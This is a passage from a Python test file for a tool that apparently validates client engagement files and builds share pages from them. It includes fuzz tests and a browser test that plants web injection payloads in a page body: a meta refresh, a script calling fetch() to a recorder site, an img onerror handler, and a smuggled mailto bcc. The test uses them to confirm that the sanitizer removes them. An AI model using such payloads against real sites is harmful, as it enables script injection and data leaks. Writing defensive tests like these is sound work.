         "3600.005 has 3 decimal places, but EUR amounts have at most 2 decimal places; expected an amount like 3600.01"),
        ("JPY", "amount: 3600", "amount: 3600.5", 23, "payments[2].amount",
         "JPY amounts have no decimal places; expected an amount like 3601"),
        ("USD", "fee: 12000", "fee: '12,000'", 5, "fee", "write it without thousands separators: 12000"),
    ],
)  # fmt: skip
def test_money_finer_than_the_currency_is_refused(tmp_path, currency, old, new, line, field, message) -> None:
    text = edit(edit(VALID, "buffer: 25%", f"buffer: 25%\ncurrency: {currency}"), old, new)
    line += line > 9  # the currency line comes after the buffer
    one_problem(text, line, field, message, tmp_path)


def test_money_in_the_currencys_unit_passes() -> None:
    assert money_precision_problem(Decimal("12000.00"), "USD") is None
    assert money_precision_problem(Decimal("1.125"), "KWD") is None
    assert money_precision_problem(Decimal("12000"), "JPY") is None
    assert "at most 3 decimal places" in (money_precision_problem(Decimal("1.1255"), "KWD") or "")


@pytest.mark.parametrize(
    ("old", "new", "line", "field"),
    [
        ("signed: 2026-09-01", "signed: 2026-11-21", 8, "signed"),
        ("    days: 5\n  - name: Sitemap", "    days: 5\n    done: 2026-12-01\n  - name: Sitemap", 14, "stages[0].done"),
        ("    days: 8\n", "    days: 8\n    started: 2027-01-04\n", 17, "stages[1].started"),
        ("paid: 2026-09-02", "paid: 2026-11-23", 21, "payments[0].paid"),
    ],
)
def test_a_recorded_date_after_today_is_an_error(tmp_path, old, new, line, field) -> None:
    found = problems_of(tmp_path, edit(VALID, old, new))
    assert_problems(found, [(FILE, line, field, "is after today (2026-11-20): a recorded date says what has happened")])


def test_a_recorded_date_of_today_is_fine(tmp_path: Path) -> None:
    text = edit(VALID, "    days: 5\n  - name: Sitemap", "    days: 5\n    done: 2026-11-20\n  - name: Sitemap")
    assert isinstance(evaluated(text), Snapshot)


def test_a_mistyped_key_does_not_hide_the_rules_across_fields(tmp_path: Path) -> None:
    # Issue 13, point 6: the typo, the payment due on no stage and the sum, in one run.
    text = edit(edit(edit(VALID, "client: Acme", "clent: Acme"), "due: Design approval,", "due: Design aproval,"),
                "amount: 3600", "amount: 3000")  # fmt: skip
    assert_problems(
        problems_of(tmp_path, text),
        [
            (FILE, 2, "clent", "unknown field; did you mean 'client'?"),
            (FILE, 22, "payments[1].due", "no stage named 'Design aproval'; did you mean 'Design approval'?"),
            (FILE, 20, "payments", "payments add up to 11400 (3600 + 4800 + 3000), but the fee is 12000"),
        ],
    )


def test_every_rule_runs_over_the_parts_that_can_be_read(tmp_path: Path) -> None:
    # A broken stage (days: 0) still names itself; a broken payment (amount: lots) leaves the
    # sum unknown; the deposit's future `paid` and a duplicate stage name are still found.
    text = edit(VALID, "    days: 8\n", "    days: 0\n")
    text = edit(text, "name: Design approval\n", "name: Kick-off materials\n")
    text = edit(text, "paid: 2026-09-02", "paid: 2026-12-24")
    text = edit(text, "amount: 3600", "amount: lots")
    assert_problems(
        problems_of(tmp_path, text),
        [
            (FILE, 16, "stages[1].days", "at least 1, got 0"),
            (FILE, 23, "payments[2].amount", "expected an amount like 12000 or 99.50"),
            (FILE, 17, "stages[2].name", "stage name 'Kick-off materials' is used twice (also stages[0])"),
            (FILE, 21, "payments[0].paid", "2026-12-24 is after today"),
            (FILE, 22, "payments[1].due", "no stage named 'Design approval'"),
        ],
    )


def test_a_subdivision_by_name_gets_that_countrys_codes(tmp_path: Path) -> None:
    text = edit(VALID, "buffer: 25%", "calendar: {country: ES, subdivision: Valencia}")
    found = problems_of(tmp_path, text)
    assert_problems(found, [(FILE, 9, "calendar.subdivision", "'Valencia' is not a subdivision of ES; did you mean VC (Valenciana)?")])
    assert "AN, AR" in found[0].message and "VC" in found[0].message and "such as CA" not in found[0].message
    assert isinstance(evaluated(edit(VALID, "buffer: 25%", "calendar: {country: ES, subdivision: VC}")), Snapshot)


# -- Property: random input never crashes, never hangs; what passes check builds ------------------


@contextlib.contextmanager
def time_limit(seconds: int) -> Iterator[None]:
    """Fail (not hang) when the body runs longer than `seconds`."""

    def stop(signum: int, frame: object) -> None:
        raise TimeoutError(f"took more than {seconds} s: a hang")

    previous = signal.signal(signal.SIGALRM, stop)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.fixture(scope="module")
def page_writer(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """The example site's page writer (theme, Markdown extensions with snippets), as the build makes it."""
    from courtside.plugin import CourtsidePlugin
    from mkdocs.config import load_config
    from mkdocs.config.defaults import MkDocsConfig

    root = make_site(tmp_path_factory.mktemp("writer"), {})
    cache = MkDocsConfig.plugins.plugin_cache  # a plugin instance of its own, shared with no other test
    saved = dict(cache)
    cache.clear()
    try:
        config = load_config(config_file=str(root / "mkdocs.yml"))
        plugin = config.plugins["courtside"]
        assert isinstance(plugin, CourtsidePlugin)
        config = config.plugins.on_config(config)
        return plugin._page_writer(config)
    finally:
        cache.clear()
        cache.update(saved)


_SCALAR = st.one_of(
    st.integers(-(10**50), 10**50), st.text(max_size=30), st.booleans(), st.none(),
    st.decimals(allow_nan=False, allow_infinity=False, places=4).map(str), st.dates().map(str),
    st.sampled_from(["signing", "start", "Design approval", "us", "client", "30%", "2026-11-20", "EUR", "JPY",
                     "\u200bDesign approval", "x@y.example?bcc=z", "\x1b", "\u202e", "18.000", "k7p2m9xq4r8t1vzb3hw6"]),
)  # fmt: skip
_KEYS = st.sampled_from(
    ["client", "project", "share", "fee", "currency", "signed", "start", "status", "stages", "payments",
     "contacts", "calendar", "buffer", "name", "owner", "days", "due", "amount", "paid", "done", "started",
     "gate", "email", "subdivision", "country", "language"]
) | st.text(max_size=8)  # fmt: skip
_STRUCTURES = st.recursive(
    _SCALAR, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_KEYS, inner, max_size=5), max_leaves=20
)


def _mutations() -> st.SearchStrategy[bytes]:
    """VALID damaged: bytes replaced, inserted or cut, lines doubled, the body made hostile."""
    base = VALID.encode()

    def damage(cuts: list[tuple[int, int, bytes]]) -> bytes:
        data = base
        for at, length, insert in cuts:
            at %= len(data) + 1
            data = data[:at] + insert + data[at + length :]
        return data

    insert = st.binary(max_size=12) | st.sampled_from([b"\r", b"\t", b"[" * 50, b"*a", b"&a ", b"\xe9", b"\x00"])
    return st.lists(st.tuples(st.integers(0, 10**6), st.integers(0, 8), insert), min_size=1, max_size=5).map(damage)


def _yaml_of(value: Any) -> bytes:
    import yaml

    try:
        return ("---\n" + yaml.safe_dump(value, allow_unicode=True, width=10**6) + "---\nBody.\n").encode()
    except yaml.YAMLError:
        return b"---\n---\n"


_BODIES = st.text(st.characters(exclude_categories=("Cs", "Cc", "Cf")) | st.just("\n"), max_size=200) | st.sampled_from(
    [HOSTILE_BODY, "# Scope\n\n- one\n- two\n", "<details><summary>More</summary>x</details>", "\u0645\u0631\u062d\u0628\u0627",
     '--8<-- "projects/_policies.yml"\n', "```python\nprint(1)\n```\n", "| a |\n|---|\n| b |\n", "<!-- -->" * 3]
)  # fmt: skip
_NAMES = st.text(st.characters(exclude_categories=("Cs", "Cc", "Cf", "Zl", "Zp")), min_size=1, max_size=30).filter(
    str.strip
)


@st.composite
def _plausible(draw: st.DrawFn) -> bytes:
    """An engagement that is often valid: random stages (up to 2,000 days each), owners,
    recorded dates, languages, currencies, fees, payments and bodies, so that the build's
    pages, timelines and calendars meet them too."""
    count = draw(st.integers(1, 8))
    signed = draw(st.none() | st.dates(date(2024, 1, 1), date(2026, 11, 20)))
    stages = []
    for index in range(count):
        stage: dict[str, Any] = {
            "name": draw(_NAMES | st.just(f"Stage {index}")),
            "owner": draw(st.sampled_from(["us", "client"])),
            "days": draw(st.integers(1, 2000) | st.integers(1, 15)),
        }
        if signed and index == 0 and draw(st.booleans()):
            stage["done"] = draw(st.dates(signed, date(2026, 11, 20))).isoformat()
        stages.append(stage)
    front: dict[str, Any] = {
        "client": draw(_NAMES),
        "project": draw(_NAMES),
        "share": SHARE,
        "language": draw(st.sampled_from(["en", "es", "ru", "ar"])),
        "currency": draw(st.sampled_from(["USD", "EUR", "JPY", "KWD"])),
        "contacts": {"client": {"name": draw(_NAMES), "email": "dana@acmebakery.example"}},
        "stages": stages,
    }
    if signed:
        front["signed"] = signed.isoformat()
    if draw(st.booleans()):
        front["fee"] = draw(st.integers(1, 10**9))
        front["payments"] = [
            {"name": "Deposit", "amount": "30%", "due": "signing"},
            {"name": "Rest", "amount": "70%", "due": draw(st.sampled_from([s["name"] for s in stages] + ["start"]))},
        ]
    import yaml

    text = "---\n" + yaml.safe_dump(front, allow_unicode=True, sort_keys=False) + "---\n" + draw(_BODIES)
    return text.encode("utf-8", "surrogatepass")


FILES = st.one_of(
    _STRUCTURES.map(_yaml_of),  # random structures, as YAML
    st.binary(max_size=400),  # random bytes
    _mutations(),  # random damage to a valid file
    _plausible(),  # random engagements, often valid
)


FUZZ_EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "200"))
"""Inputs per run: 200 by default (about 10 s, the same ones every run, so CI is repeatable);
`HOSTILE_EXAMPLES=5000` for a longer hunt with new random inputs each time."""


@settings(
    max_examples=FUZZ_EXAMPLES,
    deadline=20_000,  # ms per input; `time_limit` below turns a hang into a failure
    suppress_health_check=list(HealthCheck),
    derandomize="HOSTILE_EXAMPLES" not in os.environ,
)
@given(data=FILES)
def test_random_input_never_crashes_and_what_passes_check_builds(tmp_path_factory, page_writer, data: bytes) -> None:
    from courtside.build import PageOptions, build_engagements
    from courtside.cli.check import check_folder
    from courtside.publish.board_json import board_json
    from courtside.publish.ical import internal_calendar_bytes
    from courtside.publish.mailto import reminder_mails
    from courtside.publish.views import board_view
    from courtside.stage import Stage

    root = tmp_path_factory.mktemp("fuzz")
    folder = root / "projects"
    folder.mkdir()
    (folder / "_policies.yml").write_text(POLICIES, encoding="utf-8")
    (folder / "acme.md").write_bytes(data)
    with time_limit(15):
        with contextlib.redirect_stdout(io.StringIO()) as printed, contextlib.redirect_stderr(io.StringIO()):
            code = courtside_main(["check", str(folder), "--today", TODAY.isoformat(), "--jobs", "1"])
        problems, files = check_folder(folder, TODAY, str(folder))
        assert code == (1 if problems else 0) and printed.getvalue() == "".join(f"{p}\n" for p in problems)
        problems, files = check_folder(folder, TODAY, "projects")
        assert files == ["projects/acme.md"]
        for problem in problems:  # each names the file, a line in it, and prints cleanly
            assert problem.file == "projects/acme.md" and 1 <= problem.line <= data.count(b"\n") + data.count(b"\r") + 1
            assert str(problem).isprintable(), problem
        stage = Stage(root / "site")
        stage.reset()
        built = build_engagements(folder, "projects", TODAY, page_writer, stage, PageOptions("c", "https://studio.example/"), jobs=1)
        # The rest of the build: the board's page, board.json, the studio's calendar, the
        # reminders; and `courtside status`.
        mails = reminder_mails(built.board)
        board_view(built.board, {}, mails)
        json.dumps(board_json(built.board))
        internal_calendar_bytes(built.board)
        with contextlib.redirect_stdout(io.StringIO()) as shown, contextlib.redirect_stderr(io.StringIO()):
            assert courtside_main(["status", "--projects", str(folder), "--today", TODAY.isoformat()]) == 0
    assert sorted(built.board.problems) == sorted(problems)  # the build finds what check finds, no more
    event("passes check" if not problems else "has problems")
    if not problems:
        (snapshot,) = built.board.snapshots
        share = snapshot.terms.share
        if share:
            page = (stage.root / "c" / share / "index.html").read_text(encoding="utf-8")
            assert "<script" not in page[page.index("</head>") :]
        assert "\x1b" not in shown.getvalue()


# -- The browser: a hostile body stays put, sends no Referer, runs nothing ----------------------------


class Recorder(BaseHTTPRequestHandler):
    """A second site on 127.0.0.1: records every request (path and Referer) and answers 200."""

    seen: list[tuple[str, str | None]] = []

    def do_GET(self) -> None:  # noqa: N802 - the name http.server calls
        Recorder.seen.append((self.path, self.headers.get("Referer")))
        body = b"<!doctype html><title>Elsewhere</title><p>elsewhere</p>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.mark.browser
def test_in_a_browser_a_hostile_body_stays_put_sends_no_referer_and_runs_nothing(tmp_path: Path, browser: Any) -> None:
    import functools

    Recorder.seen = []
    with serving(Recorder) as elsewhere:
        body = (
            f'<meta http-equiv="refresh" content="1;url={elsewhere}/refreshed">\n\n'
            f'<meta name="referrer" content="unsafe-url">\n\n'
            f'<p><a id="out" href="{elsewhere}/clicked" referrerpolicy="unsafe-url">Our portfolio</a></p>\n\n'
            f'<script>window.ran = true; fetch("{elsewhere}/script")</script>\n\n'
            f'<img src="{elsewhere}/img" onerror="window.ran = true">\n'
        )
        root = make_site(tmp_path, {"acme.md": VALID + body})
        result = mkdocs(root)
        assert result.returncode == 0, no_traceback(result)
        with serving(functools.partial(QuietHandler, directory=str(root / "site"))) as site:
            context = browser.new_context()
            try:
                page = context.new_page()
                url = f"{site}/c/{SHARE}/"
                page.goto(url, wait_until="load")
                page.wait_for_timeout(2500)  # past the refresh's 1 second
                assert page.url == url  # it stayed put
                assert page.evaluate("window.ran === undefined")  # nothing ran
                with page.expect_navigation():
                    page.click("#out")
                assert page.url == f"{elsewhere}/clicked"
            finally:
                context.close()
    # Only the click reached the other site (no refresh, no script's fetch, no image: the
    # sanitizer, and the CSP behind it), and without a Referer: the share stays secret. (The
    # browser then asks that site for its favicon, naming that site's page, not ours.)
    clicked = [(path, referer) for path, referer in Recorder.seen if path != "/favicon.ico"]
    assert clicked == [("/clicked", None)], Recorder.seen
    assert not any(SHARE in (referer or "") for _, referer in Recorder.seen)
